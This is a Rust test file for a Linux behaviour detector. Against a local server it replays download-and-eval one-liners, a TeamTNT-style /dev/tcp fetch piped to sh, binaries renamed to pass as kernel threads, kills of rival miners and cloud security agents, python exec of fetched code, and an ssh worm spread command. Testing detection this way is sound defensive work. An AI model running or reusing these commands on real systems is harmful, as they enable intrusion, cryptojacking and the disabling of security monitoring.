    assert!(loud(&found).is_empty(), "tclsh exec: {:?}", kinds(&found));
    let (port, peer) = command_peer(&["hello"]);
    let pid = run(Command::new("python3").args([
        "-c",
        &format!(
            "import socket,subprocess\ns=socket.create_connection(('127.0.0.1',{port}))\n\
             s.recv(64)\nsubprocess.run('uname -r',shell=True,capture_output=True)\n\
             subprocess.run(['ls','/'],capture_output=True)\ns.close()"
        ),
    ]));
    let _ = peer.join();
    let found = detect(pid);
    assert!(
        loud(&found).is_empty(),
        "python fetch then run: {:?}",
        kinds(&found)
    );
}

#[test]
fn downloads_a_script_hands_to_eval() {
    if !privileged("downloads_a_script_hands_to_eval") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("eval");
    // Each form as a script file run by bash: the shell evaluates the substitution itself.
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        run(Command::new("/bin/bash").arg(&path).current_dir(&dir.0))
    };
    for (name, body, writer) in [
        (
            "curl.sh",
            format!("eval \"$(curl -s {url}/x.sh)\""),
            "/usr/bin/curl",
        ),
        (
            "wget.sh",
            format!("eval $(wget -qO- {url}/x.sh)"),
            "/usr/bin/wget",
        ),
        (
            "backticks.sh",
            format!("eval `curl -fsSL {url}/x.sh`"),
            "/usr/bin/curl",
        ),
        // A pipeline in the substitution: its programs run from a subshell of the script's.
        (
            "pipeline.sh",
            format!("eval \"$(curl -s {url}/x.sh | cat)\""),
            "/usr/bin/curl",
        ),
        // The download kept in a variable that a later line runs as code.
        (
            "variable.sh",
            format!("v=$(curl -s {url}/x.sh)\neval \"$v\""),
            "/usr/bin/curl",
        ),
        (
            "shell-c.sh",
            format!("payload=\"$(wget -qO- {url}/x.sh)\"\nbash -c \"$payload\""),
            "/usr/bin/wget",
        ),
        (
            "echo-pipe.sh",
            format!("c=`curl -s {url}/x.sh`\necho \"${{c}}\" | sh"),
            "/usr/bin/curl",
        ),
        (
            "here-string.sh",
            format!("c=$(curl -s {url}/x.sh)\nbash <<< \"$c\""),
            "/usr/bin/curl",
        ),
    ] {
        let found = detect(script(name, &body));
        // `bash -c "$payload"` raises the command string's Low one beside it.
        let f: Vec<_> = of(&found, "behaviour-download-pipe-exec")
            .into_iter()
            .filter(|f| f.severity_label == SeverityLabel::High)
            .collect();
        assert_eq!(f.len(), 1, "{body}: {:?}", kinds(&found));
        let a = &f[0].context.additional;
        assert_eq!(a["pipeWriter"], writer, "{body}");
        assert_eq!(
            a["programReadFrom"], "a command substitution its script evaluates",
            "{body}"
        );
        assert_eq!(a["script"], dir.path(name), "{body}");
    }
    // A shell's command string does the same: `bash -c 'v=$(curl URL); eval "$v"'`.
    let command = format!("v=$(curl -s {url}/x.sh); eval \"$v\"");
    let found = detect(run(Command::new("/bin/bash").args(["-c", &command])));
    let f = of(&found, "behaviour-download-pipe-exec");
    let high: Vec<_> = f
        .iter()
        .filter(|f| f.severity_label == SeverityLabel::High)
        .collect();
    assert_eq!(high.len(), 1, "bash -c {command}: {:?}", kinds(&found));
    assert_eq!(
        high[0].context.additional["programReadFrom"],
        "a command substitution its command string evaluates"
    );
    // A value fetched and used as data, and eval of a local program's output: nothing at
    // Medium or above.
    for (name, body) in [
        (
            "data.sh",
            format!("v=$(curl -s {url}/v.json); echo \"$v\" | wc -c"),
        ),
        (
            "data-kept.sh",
            format!("v=$(curl -s {url}/v.json)\necho \"$v\" > /dev/null\ngrep -c x <<< \"$v\""),
        ),
        (
            "command-c.sh",
            format!("bash -c 'v=$(curl -s {url}/v.json); test -n \"$v\"'"),
        ),
        (
            "dircolors.sh",
            "eval \"$(dircolors -b)\"; curl -s -o /dev/null URL".replace("URL", &url),
        ),
    ] {
        let found = detect(script(name, &body));
        assert!(loud(&found).is_empty(), "{body}: {:?}", kinds(&found));
    }
}

/// Cloud-miner and botnet scripts, behaviour by behaviour (docs/EFFICACY.md, "Cloud-miner and
/// botnet scripts"), each as lines of a bash script against a server on 127.0.0.1: TeamTNT's
/// and Kinsing's `/dev/tcp` download function (`__curl URL | sh`, no curl, the connection made
/// in a forked subshell), a payload copied under a kernel thread's name (Outlaw's `kswapd0`,
/// `[kthreadd]`) or a library's (XorDDoS's `libudev.so.6`) and run, other miners killed by
/// name, the cloud's host agent removed, a program fetched and exec'd inside python. A benign
/// twin of each (the same function's output counted, a copied tool under its own name, glibc's
/// runnable `libc.so.6`, `pkill` of an ordinary name, python printing what it fetched) raises
/// nothing at Medium or above.
#[test]
fn miner_and_botnet_script_behaviours_and_their_benign_twins() {
    if !privileged("miner_and_botnet_script_behaviours_and_their_benign_twins") {
        return;
    }
    let url = http_server();
    let dir = Scratch::new("miner-scripts");
    let script = |name: &str, body: &str| {
        let path = dir.path(name);
        std::fs::write(&path, format!("#!/bin/bash\n{body}\n")).expect("script");
        detect(run(Command::new("/bin/bash")
            .arg(&path)
            .current_dir(&dir.0)))
    };
    let curl_fn = r#"function __curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}; HOST=${server//:*}; PORT=${server//*:}
  exec 3<>/dev/tcp/${HOST}/$PORT
  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$DOC" "$HOST" >&3
  (while read line; do [[ "$line" == $'\r' ]] && break; done && cat) <&3
  exec 3>&-
}"#;
    let raised = |name: &str, body: &str, rule_id: &str, label: SeverityLabel| {
        let found = script(name, body);
        let f = of(&found, rule_id);
        assert!(!f.is_empty(), "{body}: {rule_id}: {:?}", kinds(&found));
        assert!(
            f.iter().all(|f| f.severity_label == label),
            "{body}: {label:?}"
        );
        found
    };
    let quiet = |name: &str, body: &str| {
        let found = script(name, body);
        assert!(
            found
                .iter()
                .all(|f| f.severity_label < SeverityLabel::Medium),
            "{body}: nothing at Medium or above: {:?}",
            kinds(&found)
        );
    };
    let found = raised(
        "devtcp-fn.sh",
        &format!("{curl_fn}\n__curl {url}/x.sh | sh"),
        "behaviour-download-pipe-exec",
        SeverityLabel::High,
    );
    let w = &of(&found, "behaviour-download-pipe-exec")[0]
        .context
        .additional["pipeWriter"];
    assert!(w.contains("cat"), "writer {w}");
    quiet(
        "devtcp-fn-count.sh",
        &format!("{curl_fn}\n__curl {url}/x.sh | wc -c"),
    );

    let masquerade = |name: &str, file: &str, how: &str| {
        let path = dir.path(file);
        let found = raised(
            name,
            &format!("cp /usr/bin/true '{path}'\n'{path}'"),
            "behaviour-masquerading",
            SeverityLabel::High,
        );
        let f = of(&found, "behaviour-masquerading");
        assert_eq!(f[0].context.additional["masquerade"], how, "{file}");
    };
    let kthread = "an executable file named like a kernel thread";
    masquerade("kswapd.sh", "kswapd0", kthread);
    masquerade("kthreadd.sh", "[kthreadd]", kthread);
    masquerade(
        "libudev.sh",
        "libudev.so.6",
        "an executable file named like a shared library",
    );
    let own = dir.path("vigil-tool");
    let mut twin = format!("cp /usr/bin/true {own}\n{own}");
    let libc = "/usr/lib/x86_64-linux-gnu/libc.so.6";
    if Path::new(libc).exists() {
        twin.push_str(&format!("\n{libc} > /dev/null"));
    }
    quiet("own-names.sh", &twin);

    let n = nonce();
    raised(
        "competitors.sh",
        &format!("pkill -f kdevtmpfsi-{n}\nkillall -q -9 xmrig-{n}\ntrue"),
        "exec-miner-competitor-kill",
        SeverityLabel::Medium,
    );
    quiet(
        "pkill-own.sh",
        &format!("pkill -f vigil-worker-{n}\nkillall -q vigil-worker-{n}\ntrue"),
    );
    // The cloud provider's host agent removed (none runs here), a program fetched and
    // executed inside python; python fetching and printing raises nothing at Medium.
    raised(
        "cloud-agents.sh",
        "pkill -x AliYunDun\nkillall -q YDService\ntrue",
        "evasion-disable-security",
        SeverityLabel::High,
    );
    raised(
        "py-exec.sh",
        &format!(
            "python3 -c \"import urllib.request;exec(urllib.request.urlopen('{url}/v.py').read())\""
        ),
        "exec-interpreter-downloaded-program",
        SeverityLabel::High,
    );
    if which("ssh").is_err() {
        not_tested("ssh is not installed: the spread over ssh is not tested");
    } else {
        // A worm's spread over ssh (to a closed port on 127.0.0.1: the exec is the evidence).
        raised(
            "ssh-spread.sh",
            &format!(
                "ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"(curl -fsSL {url}/x.sh||wget -q -O- {url}/x.sh)|bash\"\ntrue"
            ),
            "exec-remote-download-pipe-shell",
            SeverityLabel::High,
        );
        quiet(
            "ssh-health.sh",
            &format!(
                "ssh -oBatchMode=yes -oConnectTimeout=2 -p 1 root@127.0.0.1 \"curl -s {url}/v.json | jq .\"\ntrue"
            ),
        );
    }
    quiet(
        "py-print.sh",
        &format!(
            "python3 -c \"import urllib.request;print(urllib.request.urlopen('{url}/v.json').read())\""
        ),
    );
}
